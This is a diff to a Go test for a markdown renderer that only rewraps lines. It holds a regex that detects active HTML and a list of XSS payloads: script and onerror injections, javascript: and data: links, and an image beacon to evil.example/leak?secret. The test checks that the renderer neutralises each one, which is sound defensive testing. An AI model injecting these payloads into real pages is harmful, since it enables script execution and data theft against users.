@@ -10,22 +10,29 @@ import (
 	"github.com/stretchr/testify/require"
 )
 
-// active matches what could run or load something if it is in a tag. What is shown as text has its < escaped.
-var active = regexp.MustCompile(`(?i)<(script|img|svg|iframe|object|embed|style|link|meta|base|form|input|video|audio|math|template)|<[^>]*\s(on[a-z]+|style|src|srcset|id|name)\s*=|<[^>]*(javascript|vbscript|data|file):`)
+// active matches what could run or load something if it is in a tag. What is shown as text has its
+// < escaped.
+var active = regexp.MustCompile(
+	`(?i)<(script|img|svg|iframe|object|embed|style|link|meta|base|form|input|video|audio|math|template)|<[^>]*\s(on[a-z]+|style|src|srcset|id|name)\s*=|<[^>]*(javascript|vbscript|data|file):`)
 
 var attacks = []string{
 	"<script>alert(1)</script>",
 	"text <img src=x onerror=alert(1)> text",
 	"<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
-	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](vbscript:x)",
-	"[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x](https://evil.example/leak?secret)",
+	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
+	"[x](&#106;avascript:alert(1))", "[x](vbscript:x)",
+	"[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+	"![x](https://evil.example/leak?secret)",
 	"![x](javascript:alert(1))", "<javascript:alert(1)>", "<data:text/html,x>",
 	"[x](https://a.example/\"onmouseover=alert(1)\")", "[x](https://a.example 'a\" onclick=\"alert(1)')",
 	"```js\" onmouseover=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
-	"<iframe src=\"https://evil.example\"></iframe>", "<style>*{display:none}</style>", "<base href=\"https://evil.example\">",
-	"<a href=\"https://evil.example\" onclick=\"alert(1)\">x</a>", "<!-- --!><script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>",
+	"<iframe src=\"https://evil.example\"></iframe>", "<style>*{display:none}</style>",
+	"<base href=\"https://evil.example\">",
+	"<a href=\"https://evil.example\" onclick=\"alert(1)\">x</a>", "<!-- --!><script>alert(1)</script> -->",
+	"<![CDATA[<script>alert(1)</script>]]>",
 	"<?php <script>alert(1)</script> ?>", "| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |",
-	"# <img src=x onerror=alert(1)>", "- [ ] <input onfocus=alert(1) autofocus>", "[x]: javascript:alert(1)\n[x]", "<form action=//evil.example><input name=q>",
+	"# <img src=x onerror=alert(1)>", "- [ ] <input onfocus=alert(1) autofocus>", "[x]: javascript:alert(1)\n[x]",
+	"<form action=//evil.example><input name=q>",
 	"\x00<script>\x00", "&lt;script&gt;alert(1)&lt;/script&gt;", "\xff<script>alert(1)</script>",
 }
 
@@ -33,7 +40,8 @@ func TestNothingActiveComesOutOfMarkdown(t *testing.T) {
 	for _, attack := range attacks {
 		require.NotRegexp(t, active, render(attack), attack)
 	}
-	require.Contains(t, render("<script>alert(1)</script>"), "&lt;script&gt;alert(1)&lt;/script&gt;", "raw HTML is shown as text")
+	require.Contains(t, render("<script>alert(1)</script>"), "&lt;script&gt;alert(1)&lt;/script&gt;",
+		"raw HTML is shown as text")
 	link := render("[a](https://a.example/x?y=1)")
 	require.Contains(t, link, `rel="nofollow noreferrer noopener"`)
 	require.Contains(t, link, `target="_blank"`)
